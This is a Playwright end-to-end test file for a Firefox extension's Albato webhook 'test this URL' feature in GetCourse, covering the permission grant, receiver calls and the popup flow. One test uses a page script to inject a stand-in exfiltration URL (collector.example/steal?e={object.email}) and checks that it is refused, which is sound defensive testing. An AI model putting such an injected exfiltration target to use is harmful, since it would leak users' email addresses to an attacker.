/**
 * "Test this URL" in Firefox ESR, inside the process editor's block modal (fact sheet R.2), end
 * to end with a real Albato-shaped host: h.albato.ru resolves
 * to the sandbox (A33), the extension has no access to it, the admin opens the access page from
 * the panel and allows it there (keyboard: Playwright cannot read moz-extension:// pages), and the
 * call then reaches the receiver with the GetCourse-shaped query. A page script's typing does not
 * count as the admin's (README, Security).
 */
import {
  artifact,
  CALL_URL_FIELD,
  closeBlock,
  launchFirefox,
  MODAL,
  openBlock,
  openCallUrlBlock,
  openPopupFirefox,
  useE2eSuite,
} from './harness';
import { schoolUrl } from './harness/sandbox';

const { sandbox, browser, page } = useE2eSuite(() => launchFirefox({ lang: 'ru' }));
const panel = () => page.locator(`${MODAL} [data-gc-albato="call-url-test"] .gc-test`);

describe('Firefox: test this URL', () => {
  it('asks for access to h.albato.ru from the click, then the call reaches Albato’s (sandbox) receiver', async () => {
    await openCallUrlBlock(page, schoolUrl(sandbox, '/pl/tasks/mission/process?id=101'), 2, 15_000);
    await panel().locator('.gc-test-open').click({ timeout: 15_000 });
    await page
      .locator(CALL_URL_FIELD)
      .fill(`https://h.albato.ru:${sandbox.httpsPort}/wh/38/1lfAbCd/token/?email={object.email}&city={object.city}`);
    await panel().locator('.gc-test-send').click();
    const finding = panel().locator('.gc-finding[data-code="needs-permission"]');
    expect(await finding.textContent({ timeout: 10_000 })).toContain(`доступ к https://h.albato.ru:${sandbox.httpsPort}`);
    expect(sandbox.webhookCalls()).toHaveLength(0);

    const [grantPage] = await Promise.all([browser.context.waitForEvent('page'), finding.locator('.gc-test-grant').click()]);
    await grantPage.waitForTimeout(1_500);
    expect(grantPage.url()).toBe(
      `${browser.extensionOrigin}/grant.html?origin=${encodeURIComponent(`https://h.albato.ru:${sandbox.httpsPort}`)}`,
    );
    await grantPage.keyboard.press('Tab'); // «Разрешить доступ» is the first control
    await grantPage.keyboard.press('Enter');
    await grantPage.waitForTimeout(500);

    await page.bringToFront();
    await panel().locator('.gc-test-send').click();
    await panel().locator('.gc-answer').waitFor({ timeout: 15_000 });
    expect(await panel().locator('.gc-answer').getAttribute('data-status')).toBe('200');
    expect(await panel().locator('.gc-answer').textContent()).toContain('Albato принял вызов');
    expect(sandbox.webhookCalls()).toEqual([
      expect.objectContaining({
        method: 'GET',
        path: '/wh/38/1lfAbCd/token/',
        query: { email: 'test+albato@example.com', city: 'Москва' },
      }),
    ]);

    // Closed and reopened: the saved URL is back in the field and a fresh panel is there, once.
    await closeBlock(page);
    expect(await page.locator('[data-gc-albato="call-url-test"]').count()).toBe(0);
    await openBlock(page, 2);
    await panel().locator('.gc-test-open').waitFor();
    expect(await page.locator('[data-gc-albato="call-url-test"]').count()).toBe(1);
    expect(await page.locator(CALL_URL_FIELD).inputValue()).toContain('https://h.albato.ru/wh/38/');
  });

  it('a page script typing with execCommand (a trusted input event) is not the admin typing: their Send is refused, nothing goes out', async () => {
    sandbox.reset();
    await openCallUrlBlock(page, schoolUrl(sandbox, '/pl/tasks/mission/process?id=101'), 2, 15_000);
    await panel().locator('.gc-test-open').click({ timeout: 15_000 });
    await page.evaluate((field) => {
      const input = document.querySelector(field) as HTMLInputElement;
      input.focus();
      input.select();
      document.execCommand('insertText', false, 'https://collector.example/steal?e={object.email}');
    }, CALL_URL_FIELD);
    expect(await panel().locator('.gc-request').textContent()).toContain('https://collector.example/steal');
    await panel().locator('.gc-test-send').click();
    const refused = panel().locator('.gc-finding[data-code="untyped-target"]');
    expect(await refused.textContent({ timeout: 10_000 })).toContain('адрес https://collector.example вы не набирали');
    expect(sandbox.webhookCalls()).toHaveLength(0);
  });

  it('popup webhook test: the Send click itself asks for h.albato.com and the call goes out', async () => {
    sandbox.reset();
    await openCallUrlBlock(page, schoolUrl(sandbox, '/pl/tasks/mission/process?id=101'), 2, 15_000); // its URL is remembered: the popup offers a picker
    await panel().waitFor({ timeout: 15_000 });
    const popup = await openPopupFirefox(browser, schoolUrl(sandbox, '/pl/sales/offer/index'), 'webhook');
    for (let i = 0; i < 2; i++) await popup.keyboard.press('Tab'); // the «Вебхук» tab → webhook URL
    await popup.keyboard.type(`https://h.albato.com:${sandbox.httpsPort}/wh/21/1abCdEf/token/?id={object.id}&phone={object.phone}`);
    for (const _stop of ['picker of remembered URLs', 'method', 'sample']) await popup.keyboard.press('Tab');
    await popup.keyboard.press('Tab'); // «Отправить тестовый вызов»
    await popup.keyboard.press('Enter');
    await expect.poll(() => sandbox.webhookCalls().length, { timeout: 10_000 }).toBe(1);
    expect(sandbox.webhookCalls()[0]).toMatchObject({ path: '/wh/21/1abCdEf/token/', query: { id: '0', phone: '+79990000000' } });
    await popup.waitForTimeout(500);
    await popup.screenshot({ path: artifact('firefox-popup-webhook-test.png'), fullPage: true });
  });
});
